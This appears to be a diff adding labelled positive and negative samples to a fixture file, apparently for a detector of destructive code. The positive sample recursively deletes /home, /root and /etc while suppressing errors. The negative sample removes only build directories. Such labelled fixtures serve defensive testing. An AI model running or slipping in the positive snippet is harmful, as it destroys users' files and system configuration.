@@ -51,3 +51,11 @@ total = 0
 for d, _, files in os.walk(os.path.expanduser("~")):
     total += sum(os.path.getsize(os.path.join(d, f)) for f in files)
 print(total)
+#@ pos system directories removed one after another in a loop
+import shutil
+for d in ("/home", "/root", "/etc"):
+    shutil.rmtree(d, ignore_errors=True)
+#@ neg the program's own build directories removed in a loop
+import shutil
+for d in ("build", "dist", ".pytest_cache"):
+    shutil.rmtree(d, ignore_errors=True)
